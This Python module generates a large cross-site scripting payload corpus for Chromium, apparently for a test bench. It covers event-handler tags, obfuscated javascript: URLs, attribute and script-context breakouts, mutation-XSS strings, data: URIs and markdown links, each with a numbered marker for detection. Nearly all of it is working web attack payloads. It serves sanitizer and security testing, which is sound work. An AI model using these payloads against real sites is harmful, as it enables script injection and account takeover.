"""Scripting vectors that Chromium really runs where a page lets them through, each with a place where it does.

After the cheat sheets of OWASP and PortSwigger, multiplied out. MARK stands where the argument of the call goes, so
that whoever hooks `alert` learns which vector ran, and in which field. `bench.vectors` proves each in a page that
escapes nothing.
"""

import re

MARK = "1"
CALLS = [
    "alert(1)",
    '"alert(1)"',
    "'alert(1)'",
    "&#97;lert(1)",
    '"&#x61;lert&lpar;1&rpar;"',
    "\\u0061lert(1)",
    "alert`1`",
    "self['al'+'ert'](1)",
    '"eval(`ale`+`rt(1)`)"',
    "(confirm)(1)",
    "[1].map(prompt)",
    "Function('alert(1)')()",
]
# What runs by itself: element and handler, {0} where the space and {1} where the call goes.
LOADING = [
    '<img{0}src="x"{0}onerror={1} >',
    '<image{0}src="x"{0}onerror={1} >',
    "<svg{0}onload={1} ></svg>",
    "<iframe{0}onload={1} ></iframe>",
    '<video{0}src="x"{0}onerror={1} ></video>',
    '<audio{0}src="x"{0}onerror={1} ></audio>',
    '<video><source{0}src="x"{0}onerror={1} ></video>',
    '<object{0}data="x"{0}onerror={1} ></object>',
    "<details{0}open{0}ontoggle={1} >x</details>",
    '<link{0}rel="stylesheet"{0}href="x"{0}onerror={1} >',
    "<style{0}onload={1} ></style>",
    '<input{0}type="image"{0}src="x"{0}onerror={1} >',
    '<svg><animate{0}attributeName="x"{0}dur="1s"{0}onbegin={1} ></animate></svg>',
    '<svg><image{0}href="x"{0}onerror={1} ></image></svg>',
    '<script{0}src="x"{0}onerror={1} ></script>',
    '<math><mtext></mtext></math><img{0}src="x"{0}OnErRoR={1} >',
]
SPACES = [" ", "/", "\t", "\n"]
TAGS = ["a", "b", "button", "div", "form", "h1", "input", "label", "li", "p", "select", "span", "ul", "x-y"]
TAGS += ["section", "font", "summary", "video", "svg"]
HANDLERS = ["onclick", "onmouseover", "onfocus", "onpointerdown", "onkeydown", "ONMOUSEENTER"]
SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\r\nscript:alert(1)",
    " javascript:alert(1)",
    "\njavascript:alert(1)",
    "\x01javascript:alert(1)",
    "\x1f javascript:alert(1)",
    "javascript\t:alert(1)",
    "javascript:\nalert(1)",
    "javascript://x.example/%0aalert(1)",
    "javascript://https://x.example/%0Dalert(1)",
    "javascript:/*https://x.example*/alert(1)",
    "javascript:%61lert(1)",
    "javascript:self['al'+'ert'](1)",
    "javascript:alert`1`",
    "javascript:void(prompt(1))",
    "javascript:'<script>alert(1)</script>'",
]
ADDRESSES = [
    '<a href="{}">x</a>',
    "<a href='{}'>x</a>",
    '<area href="{}">',
    '<iframe src="{}"></iframe>',
    '<form action="{}"><button>x</button></form>',
    '<form><button formaction="{}">x</button></form>',
    '<svg><a href="{}"><text y="9">x</text></a></svg>',
    '<svg><a xlink:href="{}"><text y="9">x</text></a></svg>',
    '<svg><a><animate attributeName="href" values="{}"></animate><text y="9">x</text></a></svg>',
]
# Pages in an address. What runs there may touch nothing of the page around it, and sends its number.
FRAMES = ['<iframe src="{}"></iframe>', '<embed src="{}">', '<object data="{}"></object>']
DATA = [
    "data:text/html,<script>top.postMessage([1],'*')</script>",
    "DATA:text/html;charset=utf-8,<img src=x: onerror=top.postMessage([1],'*')>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.postMessage([1],&quot;*&quot;)'/>",
]
# Chromium opens no frame in these for an address of this kind, whatever is done to them.
CLOSED = FRAMES[1:]
PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT>",
    "<script>/*x*/alert(1)//x</script>",
    "<svg><script>alert&lpar;1&rpar;</script></svg>",
    "<img src=x onerror=alert(1) >",
    "<svg onload=alert(1) ></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe srcdoc=&lt;script&gt;parent.alert(1)&lt;/script&gt; ></iframe>",
]
# What leaves the place where a text stands, by the name of the place.
WAYS_OUT = {
    "html": ["", "</p>", "</div></main>", "<b>x", "\u202e", "]]>", "</script>", "<!-->", "{{x}}", "&lt;"],
    "double": ['">', '" x="y">', '"/>', "\">'>"],
    "single": ["'>", "' x='y'>", "'/>"],
    "bare": ["x>", "x >", "x y=z>"],
    "title": ["</title>", "</TITLE >", "</title x=y>"],
    "textarea": ["</textarea>", "</TEXTAREA\n>"],
    "comment": ["-->", "--!>", "x-->"],
    "style": ["</style>", "*/}</style >"],
    "noscript": ["</noscript>", '<p title="</noscript>'],
    "json": ["</script>", '"}</script >', "</SCRIPT\t>"],
    "select": ["</option></select>", "</select>"],
    "template": ["</template>"],
}
OF_ATTRIBUTES = {
    "double": [
        '" onmouseover={} x="',
        '" autofocus tabindex=1 onfocus={} x="',
        '"onclick={} x="',
        '"\nonkeydown={} x="',
    ],
    "single": ["' onmouseover={} x='", "' autofocus tabindex=1 onfocus={} x='", "'onclick={} x='"],
    "bare": ["x onmouseover={} ", "x autofocus onfocus={} ", "x\tonclick={} "],
}
OF_SCRIPTS = {
    "script_double": ['";alert(1)//', '"-alert(1)-"', '"+alert(1)+"', '"||alert(1)||"'],
    "script_single": ["';alert(1)//", "'-alert(1)-'", "'+alert(1)+'"],
    "script_template": ["${alert(1)}", "`;alert(1)//", "`+alert(1)+`"],
    "handler": ["');alert(1)//", "'-alert(1)-'", "'+alert(1)+'", "&#39;);alert(1)//"],
}
MUTATING = [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)></style></form>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'></a></style></svg>",
    '<svg><title><style><img title="</style><img src=x onerror=alert(1)>"></style></title></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></p></xmp>",
]
CONTROL = re.compile(r"[\x00-\x20]")
MARKDOWN = ["[x]({})", "[x](<{}>)", "[x]: {}\n\n[x]", '[x]({} "x")', "*[x]({})*"]


def _vectors() -> list[tuple[str, str]]:
    """Return each vector with the place where it runs, none twice."""
    found = [("html", one.format(space, call)) for one in LOADING for space in SPACES for call in CALLS]
    acted = [(tag, handler, call) for tag in TAGS for handler in HANDLERS for call in CALLS[:3]]
    found += [("html", f"<{tag} tabindex=1 {handler}={call} >x</{tag}>") for tag, handler, call in acted]
    found += [("html", place.format(quoted(scheme))) for place in ADDRESSES for scheme in SCHEMES]
    found += [("html", frame.format(address)) for frame in FRAMES for address in DATA]
    found += [("url", scheme) for scheme in SCHEMES]
    found += [(place, way + payload) for place, ways in WAYS_OUT.items() for way in ways for payload in PAYLOADS]
    for place, ways in OF_ATTRIBUTES.items():
        found += [(place, way.format(call)) for way in ways for call in CALLS if '"' not in call and "'" not in call]
    found += [(place, one) for place, texts in OF_SCRIPTS.items() for one in texts]
    found += [("mutation", one) for one in MUTATING]
    found += [("markdown", one.format(scheme)) for one in MARKDOWN for scheme in SCHEMES if not CONTROL.search(scheme)]
    return list(dict.fromkeys(found))


def quoted(address: str) -> str:
    return address.replace('"', "&quot;").replace("'", "&#39;")


VECTORS = _vectors()
NOT_RUN = [("html", place.format(quoted(scheme))) for place in CLOSED for scheme in SCHEMES]
"""What the cheat sheets list and present browsers refuse: no vectors, until one runs again."""


def marked(vector: str, number: int) -> str:
    """Return the vector, whose call now has that number for its argument."""
    for call in ("(1)", "`1`", "&lpar;1&rpar;", "[1]"):
        vector = vector.replace(call, call.replace(MARK, str(number)))
    return vector
